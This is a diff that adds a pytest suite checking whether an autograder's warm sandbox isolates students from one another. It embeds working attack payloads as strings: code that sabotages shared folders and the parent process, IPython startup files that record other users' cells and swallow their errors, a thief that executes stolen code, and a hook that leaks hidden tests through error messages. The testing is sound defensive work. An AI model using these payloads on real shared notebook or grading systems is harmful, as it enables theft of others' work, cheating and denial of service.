@@ -1,0 +1,279 @@
+"""One student cannot reach another: attacks on the next submissions, graded end to end.
+
+One worker grades a class in name order, so the attackers (``a*``, ``d-thief``, ``e-leaker``)
+are graded before and between honest students, through the same warm sandbox. The attacks, all
+written into answer cells (so they run both in nbgrader's in-kernel run and in the trusted run's
+function server):
+
+- sabotage: a correct answer that, on every call, makes every folder it can reach read-only or
+  unreachable, leaves sparse files in them and in the kernel's runtime folder, and tries to stop
+  and re-limit the zygote;
+- planting: IPython startup files, in read-only folders, that record every cell the next
+  kernels run and swallow their exceptions (which would frame honest students as cheats);
+- theft: answer cells that only load "the earlier cell that defines my function" from where the
+  planted recorder writes;
+- the kernel-to-function-server channel: a ``post_run_cell`` hook copies every cell the kernel
+  runs (hidden tests too); the function then raises what it finds, to get it into feedback.
+
+Asserted: every honest student's score and flags are exactly those they get when graded alone,
+the thief earns nothing, and no feedback page holds a line of hidden test code.
+"""
+
+from __future__ import annotations
+
+import atexit
+import csv
+import functools
+import html
+import json
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from autograder import trusted, warm_sandbox
+from autograder.samples import BLANK, MISTAKEN, REFERENCE, write_sample_submissions
+
+pytestmark = [pytest.mark.grading,
+              pytest.mark.skipif(not warm_sandbox.available(),
+                                 reason="warm sandboxes need bubblewrap and a grader running as root")]
+
+REPO = Path(__file__).resolve().parent.parent
+ASSIGNMENT = "02-validation"
+NOTEBOOK = "validation.ipynb"
+FIRST_ANSWER = "holdout_split"
+LIMITS = {"COURSE_CALL_SECONDS": "10", "COURSE_CELL_SECONDS": "20", "COURSE_STARTUP_SECONDS": "60",
+          "COURSE_SUBMISSION_SECONDS": "300"}
+
+SABOTAGE = '''
+import json as _json, os as _os, resource as _resource, signal as _signal
+
+def _sabotage():
+    places = ["/tmp", "/dev/shm", _os.getcwd(), _os.path.expanduser("~"),
+              _os.environ.get("IPYTHONDIR", "/tmp/ipython")]
+    try:  # the kernel's connection file names its runtime folder
+        ip = _json.load(open(get_ipython().kernel.connection_file))["ip"]
+        places += [_os.path.dirname(ip), _os.path.dirname(_os.path.dirname(ip))]
+    except Exception:
+        pass
+    for place in places:
+        try:
+            _os.makedirs(_os.path.join(place, "keep"), exist_ok=True)
+            open(_os.path.join(place, "keep", "file"), "w").write("x")
+            _os.chmod(_os.path.join(place, "keep"), 0o555)
+        except Exception:
+            pass
+        try:
+            with open(_os.path.join(place, "sparse"), "wb") as handle:
+                handle.truncate(2**40)
+        except Exception:
+            pass
+        for mode in (0o555, 0):
+            try:
+                _os.chmod(place, mode)
+            except Exception:
+                pass
+    for attack in (lambda: _os.kill(_os.getppid(), _signal.SIGSTOP),
+                   lambda: _resource.prlimit(_os.getppid(), _resource.RLIMIT_AS, (2**26, 2**26)),
+                   lambda: _resource.prlimit(_os.getppid(), _resource.RLIMIT_NOFILE, (3, 3))):
+        try:
+            attack()
+        except Exception:
+            pass
+
+_honest_holdout_split = holdout_split
+
+def holdout_split(n_samples, val_fraction, seed):
+    result = _honest_holdout_split(n_samples, val_fraction, seed)
+    _sabotage()
+    return result
+
+_sabotage()
+'''
+
+# the startup file records every cell a later kernel runs and swallows its exceptions
+STARTUP = '''
+import os
+def _record(info):
+    for place in ("/tmp/loot", "/dev/shm/loot", os.path.expanduser("~/loot")):
+        try:
+            os.makedirs(place, exist_ok=True)
+            open(os.path.join(place, str(len(os.listdir(place)))), "w").write(info.raw_cell)
+        except Exception:
+            pass
+get_ipython().events.register("pre_run_cell", _record)
+get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
+'''
+
+PLANT = f'''
+import os as _os
+for _ipython in {{_os.environ.get("IPYTHONDIR", ""), "/tmp/ipython", _os.path.expanduser("~/.ipython")}} - {{""}}:
+    _startup = _os.path.join(_ipython, "profile_default", "startup")
+    try:
+        _os.makedirs(_startup, exist_ok=True)
+        open(_os.path.join(_startup, "00-record.py"), "w").write({STARTUP!r})
+        for _folder in (_startup, _os.path.dirname(_startup), _ipython):
+            _os.chmod(_folder, 0o555)
+    except Exception:
+        pass
+'''
+
+THIEF = '''
+import glob as _glob
+for _place in ("/tmp/loot", "/dev/shm/loot", "~/loot", "/tmp/leak", "/dev/shm/leak", "~/leak"):
+    for _path in sorted(_glob.glob(__import__("os").path.expanduser(_place) + "/*")):
+        try:
+            _code = open(_path).read()
+            if "def holdout_split" in _code and "NotImplementedError" not in _code:
+                exec(_code)
+        except Exception:
+            pass
+'''
+
+LEAK = '''
+import glob as _glob, os as _os
+
+_PLACES = ("/tmp/leak", "/dev/shm/leak", _os.path.expanduser("~/leak"))
+
+def _copy(result):
+    for place in _PLACES:
+        try:
+            _os.makedirs(place, exist_ok=True)
+            open(_os.path.join(place, str(len(_os.listdir(place)))), "w").write(result.info.raw_cell)
+        except Exception:
+            pass
+
+try:
+    get_ipython().events.register("post_run_cell", _copy)
+except NameError:  # the trusted run's function server
+    pass
+
+def holdout_split(n_samples, val_fraction, seed):
+    found = [open(path).read() for place in _PLACES for path in sorted(_glob.glob(place + "/*"))]
+    raise ValueError("found: " + ("\\n".join(found)[-280:] if found else "nothing"))
+'''
+
+ATTACKERS = {"a1-sabotage": (REFERENCE, SABOTAGE), "a2-planter": (BLANK, PLANT), "d-thief": (BLANK, THIEF),
+             "e-leaker": (BLANK, LEAK)}
+HONEST = {"b-honest": REFERENCE, "c-blank": BLANK, BLANK: BLANK, MISTAKEN: MISTAKEN, REFERENCE: REFERENCE,
+          "z-honest": REFERENCE}
+
+
+def _copy_submission(course: Path, samples: Path, source_student: str, student: str) -> Path:
+    target = course / "submitted" / student / ASSIGNMENT
+    shutil.copytree(samples / "submitted" / source_student / ASSIGNMENT, target)
+    return target / NOTEBOOK
+
+
+def _append_to_answer(path: Path, code: str) -> None:
+    nb = nbformat.read(path, as_version=4)
+    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == FIRST_ANSWER)
+    cell.source = cell.source + "\n" + code.strip() + "\n"
+    nbformat.write(nb, path)
+
+
+def _new_course(samples: Path, secret: Path | None = None) -> Path:
+    course = Path(tempfile.mkdtemp(prefix="course-cross-"))
+    atexit.register(shutil.rmtree, course, True)
+    for name in ("source", "release"):
+        shutil.copytree(REPO / name / ASSIGNMENT, course / name / ASSIGNMENT)
+    shutil.copy(REPO / "nbgrader_config.py", course)
+    if secret is not None:  # the same hidden inputs as the other run
+        shutil.copy(secret, course / secret.name)
+    return course
+
+
+def _grade(course: Path) -> dict[str, dict]:
+    run = subprocess.run([sys.executable, "-m", "autograder", "--course-dir", str(course), "grade", ASSIGNMENT,
+                          "--workers", "1"], capture_output=True, text=True, env={**os.environ, **LIMITS},
+                         timeout=3600)
+    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
+    with open(course / "grades.csv", newline="") as handle:
+        return {row["student_id"]: row for row in csv.DictReader(handle)}
+
+
+@functools.cache
+def _graded():
+    samples = Path(tempfile.mkdtemp(prefix="course-samples-"))
+    atexit.register(shutil.rmtree, samples, True)
+    for name in ("source", "release"):
+        shutil.copytree(REPO / name / ASSIGNMENT, samples / name / ASSIGNMENT)
+    write_sample_submissions(samples, [ASSIGNMENT])
+    together = _new_course(samples)
+    for student, source_student in HONEST.items():
+        _copy_submission(together, samples, source_student, student)
+    for student, (source_student, code) in ATTACKERS.items():
+        _append_to_answer(_copy_submission(together, samples, source_student, student), code)
+    with_attackers = _grade(together)
+    alone = _new_course(samples, together / ".grading_secret")
+    for student, source_student in HONEST.items():
+        _copy_submission(alone, samples, source_student, student)
+    return together, with_attackers, _grade(alone), alone
+
+
+def _hidden_lines() -> list[str]:
+    nb = nbformat.read(REPO / "source" / ASSIGNMENT / NOTEBOOK, as_version=4)
+    return [line for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("grade")
+            for line in trusted.hidden_lines(cell.source)]
+
+
+@pytest.mark.parametrize("student", sorted(HONEST))
+def test_honest_students_get_what_they_get_alone(student):
+    """Check that an honest student graded after the attackers has the score and flags of grading alone."""
+    _, together, alone, _ = _graded()
+    assert (together[student]["score"], together[student]["flags"]) == \
+        (alone[student]["score"], alone[student]["flags"]), student
+    course = _graded()[0]
+    cells = json.loads((course / "grading_records.json").read_text())[ASSIGNMENT][student]["cells"]
+    assert [(c["grade_id"], c["passed"]) for c in cells] == _alone_cells(student)
+
+
+def _alone_cells(student: str) -> list[tuple[str, bool]]:
+    cells = json.loads((_graded()[3] / "grading_records.json").read_text())[ASSIGNMENT][student]["cells"]
+    return [(c["grade_id"], c["passed"]) for c in cells]
+
+
+def test_the_honest_reference_keeps_full_marks_after_the_sabotage():
+    """Check that the full-marks answers graded after the sabotage still have every point."""
+    together = _graded()[1]
+    full = together[REFERENCE]["max_score"]
+    assert float(full) > 0
+    assert [together[s]["score"] for s in ("b-honest", REFERENCE, "z-honest")] == [full] * 3
+
+
+def test_the_saboteur_keeps_its_own_marks():
+    """Check that sabotage of the next submissions costs the saboteur nothing it earned itself (it changes nothing)."""
+    together = _graded()[1]
+    assert together["a1-sabotage"]["score"] == together["a1-sabotage"]["max_score"]
+
+
+def test_the_thief_earns_nothing():
+    """Check that an answer that only loads what earlier kernels ran scores like a blank one."""
+    together = _graded()[1]
+    assert together["d-thief"]["score"] == together["c-blank"]["score"]
+
+
+def test_the_kernel_cannot_pass_anything_to_the_function_server():
+    """Check that what the in-kernel run saw never reaches the trusted run's function server."""
+    course = _graded()[0]
+    records = json.loads((course / "grading_records.json").read_text())
+    messages = " ".join(json.dumps(records[ASSIGNMENT]["e-leaker"]))
+    assert "found: nothing" in messages, messages[:2000]
+
+
+def test_no_feedback_holds_hidden_test_code():
+    """Check that no student's feedback page shows a line of the hidden tests."""
+    course = _graded()[0]
+    hidden = _hidden_lines()
+    assert hidden
+    pages = list((course / "feedback").rglob("*.html"))
+    assert len(pages) == len(HONEST) + len(ATTACKERS)
+    for page in pages:
+        text = html.unescape(page.read_text(errors="replace"))
+        leaked = [line for line in hidden if line in text]
+        assert not leaked, (page, leaked[:3])
